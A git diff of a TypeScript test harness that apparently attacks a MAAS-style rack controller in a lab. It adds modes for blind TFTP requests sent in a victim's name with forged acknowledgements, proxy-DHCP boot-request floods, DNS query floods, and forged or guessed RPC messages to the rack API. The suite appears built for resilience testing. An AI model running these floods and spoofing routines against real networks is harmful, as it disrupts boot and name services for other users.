@@ -6,9 +6,11 @@ import { once } from 'node:events';
 import { connect, type Socket } from 'node:net';
 import { sleep, systemClock } from '../../src/clock.ts';
 import { frame } from '../../src/dns/stream.ts';
-import { ipv4, mac } from '../../src/net/address.ts';
+import { ANY, ipv4, mac } from '../../src/net/address.ts';
 import { clientBytes, hw, ip } from '../dhcp/lab.ts';
 import { queryBytes } from '../dns/fixture.ts';
+import { BLIND_PORTS, bootServerRequest, HEADERS_OCTETS, SHORTEST_NAME } from './bystanders.ts';
+import { LINK_SAYS, linkRequest } from './link-words.ts';
 import { authorization } from './oauth.ts';
 
 const BOOT_PORT = 5248;
@@ -17,6 +19,8 @@ const METRICS_PORT = 5249;
 /** Requests that are written at once: more than a chunk that is read. */
 const PIPELINED = 2000;
 const TICK_MS = 5;
+/** Longer than a transfer is kept up for a client that says nothing. */
+const BLIND_AGAIN_MS = 20_000;
 /** How soon a connection that was closed is opened again. */
 const AGAIN_MS = 10;
 /** Of the wire: the address of all hosts needs a route that these hosts do not have. */
@@ -150,6 +154,34 @@ async function holdTransfers(count: number): Promise<void> {
   for (const socket of sockets) socket.close();
 }
 
+/**
+ * Asks for a file in the name of `victim`, and guesses what it would acknowledge: at the ports near one that the rack took for a transfer
+ * of this host's own. Says how many octets the requests have.
+ */
+async function driveBlind(victim: string): Promise<void> {
+  const own = await udp();
+  const near = { port: 0 };
+  own.on('message', (_bytes, from) => {
+    near.port = from.port;
+  });
+  const forged = await Promise.all(BLIND_PORTS.map((port) => udp(victim, port)));
+  const request = readRequest([], SHORTEST_NAME);
+  let octets = 0;
+  for (let turn = 0; !isOver(); turn += 1) {
+    if (turn % (BLIND_AGAIN_MS / TICK_MS) === 0) {
+      for (const socket of forged) socket.send(request, 69, rack);
+      octets += forged.length * (request.length + HEADERS_OCTETS);
+      console.log(`sent ${octets}`);
+      tell();
+    }
+    if (turn % 100 === 0) own.send(readRequest(['blksize', '1428']), 69, rack);
+    for (let off = -2; off <= 2 && near.port > 0; off += 1) {
+      forged[turn % forged.length]?.send(Uint8Array.of(0, 4, 0, turn % 64), near.port + off, rack);
+    }
+    await sleep(TICK_MS);
+  }
+}
+
 /** Asks for addresses as clients that do not exist. */
 async function discoverFlood(perSecond: number): Promise<void> {
   const socket = await udp('0.0.0.0', 68);
@@ -169,8 +201,7 @@ async function discoverFlood(perSecond: number): Promise<void> {
 
 /** Datagrams of a relay agent that does not exist: DISCOVERs for the whole range, and RELEASEs of all its addresses in the holder's name. */
 async function forgeRelay(perSecond: number): Promise<void> {
-  const giaddr = ip(addresses[1] ?? '');
-  const range = ip(addresses[2] ?? '');
+  const [giaddr = ANY, range = ANY] = addresses.slice(-2).map(ip);
   const holder = hw(further);
   const socket = await udp(first);
   await flood([socket], perSecond, 67, (index) => {
@@ -264,6 +295,14 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
       }),
     );
   },
+  // As machines that boot beside another DHCP server, each time another one.
+  'proxy-requests': async () => {
+    await flood(await everyAddress(), 4000, 4011, (index) => {
+      const ciaddr = ip(addresses[index % addresses.length] ?? '');
+      return bootServerRequest(mac(0x020000000000 + index), ciaddr, index);
+    });
+  },
+  'tftp-blind': () => driveBlind(addresses.at(-1) ?? ''),
   'tftp-hold': () => holdTransfers(3000),
   'tftp-absent': async () =>
     // What comes from the same port again is a copy, and starts nothing.
@@ -277,6 +316,11 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'dns-random-names': async () =>
     flood(await everyAddress(), 2000, 53, (index) =>
       queryBytes(`n${index}-${random(1e9)}.outside.example`, 1, { id: index & 0xffff }),
+    ),
+  'dns-beside': async () =>
+    // Each name some times: most of the answers come from the cache, as those of others do.
+    flood(await everyAddress(), 1000, 53, (index) =>
+      queryBytes(`b${(index >> 2) % 4000}.outside.example`, (index & 1) === 0 ? 1 : 16, { id: index & 0xffff }),
     ),
   'dns-tcp-idle': () => holdConnections(53, 400, () => undefined),
   'dns-tcp-own': () => holdConnections(53, 40, () => undefined),
@@ -332,6 +376,15 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   },
   'rack-flood': () =>
     holdConnections(API_PORT, 64, (socket) => post(socket, '/MAAS/api/2.0/nodegroups/', registration())),
+  'link-guesses': () =>
+    holdConnections(API_PORT, 64, (socket) => socket.write(linkRequest(rack, 'heartbeat', `guess-${random(1e9)}`))),
+  'link-stolen-key': () => {
+    let turn = 0;
+    return holdConnections(API_PORT, 64, (socket) => {
+      turn += 1;
+      socket.write(linkRequest(rack, LINK_SAYS[turn % LINK_SAYS.length] ?? 'events', undefined, turn));
+    });
+  },
   'metrics-idle': () => holdConnections(METRICS_PORT, 200, () => undefined),
   'amend-others': () => amendOthers(further),
   'enlist-as-others': () => enlistAsOthers(further.split(',')),
